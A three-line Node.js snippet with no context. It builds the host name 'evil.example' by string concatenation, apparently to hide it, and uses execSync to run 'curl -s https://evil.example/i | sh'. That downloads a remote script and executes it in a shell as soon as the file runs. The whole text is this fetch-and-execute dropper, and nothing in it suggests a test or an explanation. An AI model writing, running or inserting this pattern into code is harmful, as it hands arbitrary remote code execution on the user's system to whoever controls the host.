const { execSync } = require('node:child_process');
const host = 'evil' + '.example';
execSync(`curl -s https://${host}/i | sh`);
